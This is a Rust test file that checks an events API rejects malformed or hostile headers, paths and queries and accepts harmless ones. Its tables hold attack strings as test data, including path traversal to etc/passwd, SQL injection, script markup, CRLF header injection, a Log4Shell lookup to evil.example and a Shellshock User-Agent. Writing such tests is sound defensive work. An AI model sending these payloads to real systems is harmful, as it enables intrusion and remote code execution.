//! Headers, paths and queries.

use axum::http::Method;
use tests::sample;

use crate::{
    case::{CREATE, Case, JOIN, table},
    service::{assert_accepted, assert_rejected},
};

#[tokio::test(flavor = "multi_thread")]
async fn hostile_headers_are_rejected() {
    assert_rejected(&rejected(), 292).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn harmless_headers_are_accepted() {
    assert_accepted(&accepted(), 39).await;
}

fn rejected() -> Vec<Case> {
    let create = |name: String, code| Case::event(name, &sample::event(), code);
    [
        table(KEYS, "C_003", |name, key, code| create(format!("key {name}"), code).header("Idempotency-Key", key)),
        table(MANAGERS, "AM_001", |name, id, code| {
            create(format!("manager {name}"), code).without("x-api-managerId").header("x-api-managerId", id)
        }),
        table(MEDIA_TYPES, "C_004", |name, media_type, code| {
            let join = Case::join(format!("member as {name}"), sample::member().to_string(), code);
            join.without("Content-Type").header("Content-Type", media_type)
        }),
        table(ENCODINGS, "C_004", |name, encoding, code| {
            let join = Case::join(format!("member {name}"), sample::member().to_string(), code);
            join.header("Content-Encoding", encoding)
        }),
        table(EVENTS, "E_002", |name, id, code| Case::get(format!("event {name}"), format!("{CREATE}/{id}"), code)),
        table(EVENTS, "E_002", |name, id, code| {
            Case::new(format!("deletion {name}"), Method::DELETE, format!("{CREATE}/{id}"), code)
        }),
        table(EVENTS, "E_002", |name, id, code| {
            Case::new(format!("restoration {name}"), Method::POST, format!("{CREATE}/{id}/restore"), code)
        }),
        table(EVENTS, "E_002", |name, id, code| Case {
            path: format!("{CREATE}/{id}"),
            ..Case::edit(format!("edit of event {name}"), "{}", code)
        }),
        table(IF_MATCH, "C_003", |name, tags, code| {
            Case::edit(format!("edit if match {name}"), "{}", code).header("If-Match", tags)
        }),
        table(MEDIA_TYPES, "C_004", |name, media_type, code| {
            let edit = Case::edit(format!("edit as {name}"), "{}", code);
            edit.without("Content-Type").header("Content-Type", media_type)
        }),
        table(ENCODINGS, "C_004", |name, encoding, code| {
            Case::edit(format!("edit {name}"), "{}", code).header("Content-Encoding", encoding)
        }),
        table(PATHS, "C_008", |name, path, code| Case::get(format!("path {name}"), path, code)),
        table(LIMITS, "C_003", |name, limit, code| {
            Case::get(format!("limit {name}"), format!("{CREATE}?limit={limit}"), code)
        }),
        table(SEARCHES, "C_003", |name, criteria, code| {
            Case::get(format!("search {name}"), format!("{CREATE}?{criteria}"), code)
        }),
        table(CURSORS, "C_003", |name, cursor, code| {
            Case::get(format!("cursor {name}"), format!("{CREATE}?cursor={cursor}"), code)
        }),
        table(MANAGERS, "AM_001", |name, id, code| {
            let own_events = Case::own_events(format!("own events of manager {name}"), "", code);
            own_events.without("x-api-managerId").header("x-api-managerId", id)
        }),
        table(STATUSES, "C_003", |name, status, code| {
            Case::own_events(format!("status {name}"), &format!("status={status}"), code)
        }),
        table(LIMITS, "C_003", |name, limit, code| {
            Case::own_events(format!("own events with a limit {name}"), &format!("limit={limit}"), code)
        }),
        table(CURSORS, "C_003", |name, cursor, code| {
            Case::own_events(format!("own events from a cursor {name}"), &format!("cursor={cursor}"), code)
        }),
        [Method::PUT, Method::PATCH, Method::DELETE, Method::TRACE]
            .map(|method| Case::new(format!("method {method}"), method, CREATE, "C_008"))
            .to_vec(),
        vec![
            create("key twice".to_owned(), "C_003").header("Idempotency-Key", "a").header("Idempotency-Key", "b"),
            create("no manager".to_owned(), "AM_001").without("x-api-managerId"),
            create("encoded form".to_owned(), "C_004").header("Content-Encoding", "gzip"),
            Case::join("member of no type", sample::member().to_string(), "C_004").without("Content-Type"),
            Case::get("search of 51 characters", format!("{CREATE}?q={}", "%F0%9F%8E%AB".repeat(51)), "C_003"),
            Case::get("search of 8 KB", format!("{CREATE}?q={}", "a".repeat(8_000)), "C_003"),
            Case::get("cursor of 8 KB", format!("{CREATE}?cursor={}", "A".repeat(8_000)), "C_003"),
            Case::get("query of 9 KB", format!("{CREATE}?a={}", "A".repeat(9_000)), "C_003"),
            Case::own_events("status of 8 KB", &format!("status={}", "a".repeat(8_000)), "C_003"),
            Case::get("event of 8 KB", format!("{CREATE}/{}", "0".repeat(8_000)), "E_002"),
        ],
    ]
    .concat()
}

fn accepted() -> Vec<Case> {
    [
        table(TAGS, "0", |name, tags, code| {
            Case::get(format!("tag {name}"), CREATE, code).header("If-None-Match", tags)
        }),
        table(IGNORED, "0", |name, (header, value), code| {
            let join = Case::new(format!("header {name}"), Method::POST, JOIN, code);
            let join = join.header("Content-Type", "application/json").header(header, value);
            Case { body: sample::member().to_string().into_bytes(), ..join }
        }),
        vec![
            Case::join("member in identity", sample::member().to_string(), "0").header("Content-Encoding", "Identity"),
            Case::get("list with an encoding", CREATE, "0").header("Content-Encoding", "gzip"),
            Case::get("list in many encodings", CREATE, "0").header("Accept-Encoding", "gzip;q=1,".repeat(500)),
            Case::get("list in no encoding", CREATE, "0").header("Accept-Encoding", "*;q=0, identity;q=0"),
            Case::get("list in bytes", CREATE, "0").header("Accept-Encoding", b"gzip\xFF"),
        ],
        table(HARMLESS_SEARCHES, "0", |name, criteria, code| {
            Case::get(format!("search {name}"), format!("{CREATE}?{criteria}"), code)
        }),
        // NFKC makes 18 letters of the first character. The second one is an initial consonant.
        ["%EF%B7%BA", "%E3%85%8B"]
            .map(|c| Case::get(format!("search for 50 × {c}"), format!("{CREATE}?q={}", c.repeat(50)), "0"))
            .to_vec(),
        vec![Case::get("three hundred parameters", format!("{CREATE}?{}", "a[]=1&".repeat(300)), "0")],
        vec![Case::get("query of a prototype", format!("{CREATE}?__proto__[limit]=0&constructor=a"), "0")],
        vec![
            Case::new("method override", Method::POST, JOIN, "0")
                .header("Content-Type", "application/json")
                .header("X-HTTP-Method-Override", "DELETE"),
        ]
        .into_iter()
        .map(|case| Case { body: sample::member().to_string().into_bytes(), ..case })
        .collect(),
    ]
    .concat()
}

const KEYS: &[(&str, &[u8])] = &[
    ("that is empty", b""),
    ("with a space inside", b"a b"),
    ("with a tab inside", b"a\tb"),
    ("of two in one header", b"a, b"),
    ("of 65 characters", &[b'a'; 65]),
    ("of 8 KB", &[b'a'; 8_000]),
    ("beyond ASCII", "가".as_bytes()),
    ("of invalid UTF-8", b"\xFF\xFE"),
    ("with a next-line character", b"a\xC2\x85b"),
    ("with a character that truncates to a line feed", "a\u{10a}Set-Cookie:".as_bytes()),
];

const IF_MATCH: &[(&str, &[u8])] = &[
    ("that is empty", b""),
    ("of only commas", b",,,"),
    ("without quotes", b"a"),
    ("that is not closed", b"\"a"),
    ("that is not opened", b"a\""),
    ("in single quotes", b"'a'"),
    ("of any and a tag", b"*, \"a\""),
    ("of two tags without a comma", b"\"a\" \"b\""),
    ("with a space in a tag", b"\"a b\""),
    ("with an escaped quote", b"\"a\\\"b\""),
    ("of a weak tag in lower case", b"w/\"a\""),
    ("of 8 KB of quotes and one more", &[b'"'; 8_001]),
];

const MANAGERS: &[(&str, &str)] = &[
    ("that is empty", ""),
    ("of a word", "null"),
    ("without hyphens", "6f1dd7b46a244c539f5e0d1c8a3b2e11"),
    ("in braces", "{6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11}"),
    ("as a URN", "urn:uuid:6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11"),
    ("one digit too short", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e1"),
    ("one digit too long", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e111"),
    ("with an invalid digit", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e1g"),
    ("with hyphens elsewhere", "6f1dd7b46-a24-4c53-9f5e-0d1c8a3b2e11"),
    ("of two", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11, 6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11"),
    ("of a path", "../../../../../../../../../../../../"),
    ("of a key", "6f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11#a"),
    ("of a statement", "' OR '1'='1"),
    ("in full-width digits", "６f1dd7b4-6a24-4c53-9f5e-0d1c8a3b2e11"),
];

const MEDIA_TYPES: &[(&str, &str)] = &[
    ("text", "text/plain"),
    ("JSON as text", "text/json"),
    ("JSON with a space", "application/ json"),
    ("JSON with a suffix", "application/json-patch+json"),
    ("JSON of a vendor", "application/vnd.api+json"),
    ("a script", "application/javascript"),
    ("XML", "application/xml"),
    ("a URL-encoded form", "application/x-www-form-urlencoded"),
    ("a form", "multipart/form-data; boundary=a"),
    ("JSON after another", "text/plain, application/json"),
    ("JSON before another", "application/json, text/plain"),
    ("anything", "*/*"),
    ("nothing", ""),
];

const ENCODINGS: &[(&str, &str)] = &[
    ("in gzip", "gzip"),
    ("in Brotli", "br"),
    ("in gzip twice", "gzip, gzip"),
    ("in gzip after identity", "identity, gzip"),
    ("in chunks", "aws-chunked"),
    ("in an unknown encoding", "x"),
];

const EVENTS: &[(&str, &str)] = &[
    ("of a path upwards", "..%2f..%2fetc%2fpasswd"),
    ("of a path upwards on Windows", "..%5c..%5ca"),
    ("of a path from the root", "%2fetc%2fpasswd"),
    ("of a NUL", "%00"),
    ("with a line break", "a%0d%0aSet-Cookie:%20b=c"),
    ("of a star", "*"),
    ("of the path parameter itself", "%7BeventId%7D"),
    ("of markup", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("of a statement", "'%20OR%20'1'='1"),
    ("of a key", "EVENT%231"),
    ("of overlong UTF-8", "%c0%af"),
    ("of invalid UTF-8", "%ff"),
    ("with an incomplete percent escape", "%2"),
    ("with a full-width digit", "%EF%BC%90196a1b2-0000-7000-8000-00000000abcd"),
    ("in braces", "%7B0196a1b2-0000-7000-8000-00000000abcd%7D"),
    ("without hyphens", "0196a1b20000700080000000000abcd0"),
    ("as a URN", "urn:uuid:0196a1b2-0000-7000-8000-00000000abcd"),
    ("and a space", "0196a1b2-0000-7000-8000-00000000abcd%20"),
    ("and a NUL", "0196a1b2-0000-7000-8000-00000000abcd%00"),
    ("and a parameter", "0196a1b2-0000-7000-8000-00000000abcd;a=b"),
    ("and an extension", "0196a1b2-0000-7000-8000-00000000abcd.json"),
];

const PATHS: &[(&str, &str)] = &[
    ("with a slash at its end", "/api/v1/events/"),
    ("with a percent-encoded slash", "/api/v1/events%2f"),
    ("with slashes twice", "//api//v1//events"),
    ("in another case", "/API/v1/events"),
    ("in another version", "/api/v2/events"),
    ("with a parameter", "/api/v1/events;a=b"),
    ("with an extension", "/api/v1/events.json"),
    ("with a NUL", "/api/v1/events%00"),
    ("of a file", "/.env"),
    ("of a repository", "/.git/config"),
    ("of a console", "/actuator/env"),
    ("of a seat map of another type", "/api/v1/events/0196a1b2-0000-7000-8000-00000000abcd/seat-map.png"),
    ("of a poster upwards", "/upload/..%2f..%2fcursor-key"),
    ("of a poster upwards on Windows", "/upload/..%5c..%5ccursor-key"),
    ("of a poster with a NUL", "/upload/a%00.png"),
    ("of a hidden file", "/upload/.bucket"),
    ("of a poster of invalid UTF-8", "/upload/%ff.png"),
    ("of a poster of another bucket", "/upload/%2fetc%2fpasswd"),
    ("of a poster from a drive", "/upload/C:%5ca.png"),
    ("without poster", "/upload/"),
];

const LIMITS: &[(&str, &str)] = &[
    ("that is empty", ""),
    ("of 0", "0"),
    ("of 101", "101"),
    ("below zero", "-1"),
    ("with a plus", "%2B1"),
    ("with a space", "%201"),
    ("with an exponent", "1e1"),
    ("in hexadecimal digits", "0x10"),
    ("of a fraction", "1.0"),
    ("that is NaN", "NaN"),
    ("that overflows", "1e999999"),
    ("of 65 bits", "18446744073709551617"),
    ("in Devanagari", "%E0%A5%A7"),
    ("in full-width digits", "%EF%BC%91"),
    ("with a NUL", "1%00"),
    ("of markup", "%3Cscript%3E"),
];

const STATUSES: &[(&str, &str)] = &[
    ("that is empty", ""),
    ("in upper case", "LIVE"),
    ("of two", "live,deleted"),
    ("with a space", "live%20"),
    ("with a NUL", "live%00"),
    ("of a key", "LIVE%23"),
    ("of markup", "%3Cscript%3E"),
    ("of a statement", "'%20OR%20'1'='1"),
    ("in full-width letters", "%EF%BD%8C%EF%BD%89%EF%BD%96%EF%BD%85"),
];

const SEARCHES: &[(&str, &str)] = &[
    ("of an empty query", "q="),
    ("of a zero-width query", "q=%E2%80%8B"),
    ("of Hangul fillers", "q=%E3%85%A4%20%EF%BE%A0"),
    ("from a date", "from=2026-12-01"),
    ("from a leap second", "from=2016-12-31T23:59:60Z"),
    ("from before 1970", "from=-1"),
    ("from a huge exponent", "from=1e999999"),
    ("from NaN", "from=NaN"),
    ("from a hexadecimal number", "from=0x10"),
    ("from a JSON string", "from=%221%22"),
    ("to a number with NUL", "to=1%00"),
    ("to an unencoded offset", "to=2026-12-01T00:00:00+09:00"),
    ("of an empty period", "from=1&to=1.0"),
    ("of a reversed period", "from=2&to=1"),
    ("of another state", "ticketing=closed"),
    ("of two states", "ticketing=open,upcoming"),
    ("by a prototype", "sort=__proto__"),
    ("by a column", "sort=title;DROP"),
    ("with a foreign cursor", "sort=show&cursor=next"),
];

const HARMLESS_SEARCHES: &[(&str, &str)] = &[
    ("for markup", "q=%3Cscript%3E"),
    ("for a quote", "q=%27%22%3B--"),
    ("for a pattern", "q=(a%2B)%2B%24"),
    ("for NUL", "q=%00"),
    ("for half a pair", "q=%ED%A0%80"),
    ("for an expression", "q=%23pk%20%3Alive"),
    ("from 1970", "from=0"),
    ("to the year 9999", "to=253402300799.999999999"),
    ("by the first of two orders", "sort=show&sort=x"),
    ("with a capital", "Q=&Sort=x"),
];

const CURSORS: &[(&str, &str)] = &[
    ("that is empty", ""),
    ("of a word", "next"),
    ("of a number", "1"),
    ("of an id", "0196a1b2-0000-7000-8000-00000000abcd"),
    ("of an id without tag", "AZahsgAAcACAAAAAAACrzQ"),
    ("of an id with a zero tag", "AZahsgAAcACAAAAAAACrzQAAAAAAAAAAAAAAAAAAAAA"),
    ("in another alphabet", "%2B%2F%2B%2F%2B%2F%2B%2F"),
    ("with padding", "AAAA%3D%3D"),
    ("of JSON", "%7B%22pk%22%3A%22EVENT%22%7D"),
    ("of a path", "..%2F..%2Fa"),
    ("of a NUL", "%00"),
    ("of invalid UTF-8", "%ff%fe"),
    ("with a line break", "a%0d%0ab"),
];

/// Values of `If-None-Match` that match no representation.
const TAGS: &[(&str, &[u8])] = &[
    ("that is empty", b""),
    ("without quotes", b"a"),
    ("that is unclosed", b"\"a"),
    ("of a thousand quotes", &[b'"'; 1_000]),
    ("of a thousand commas", &[b','; 1_000]),
    ("of invalid UTF-8", b"\"\xFF\""),
    ("of a star in quotes", b"\"*\""),
];

const IGNORED: &[(&str, (&str, &str))] = &[
    ("of another client", ("X-Forwarded-For", "127.0.0.1, <script>, ../../a")),
    ("of another host", ("X-Forwarded-Host", "evil.example")),
    ("of another path", ("X-Original-URL", "/admin")),
    ("of another scheme", ("X-Forwarded-Proto", "javascript")),
    ("of a lookup", ("User-Agent", "${jndi:ldap://evil.example/a}")),
    ("of a shell", ("User-Agent", "() { :; }; touch a")),
    ("of markup", ("Referer", "https://evil.example/<script>alert(1)</script>")),
    ("of a cookie", ("Cookie", "a=b; __Host-a=../../a")),
    ("of a trace", ("X-Amzn-Trace-Id", "Root=1-../../a;Sampled=9")),
    ("of a request id", ("x-request-id", "a\tb")),
    ("of a null origin", ("Origin", "null")),
    ("of a range", ("Range", "bytes=0-0,0-0,0-0,0-0,0-0,0-0")),
];
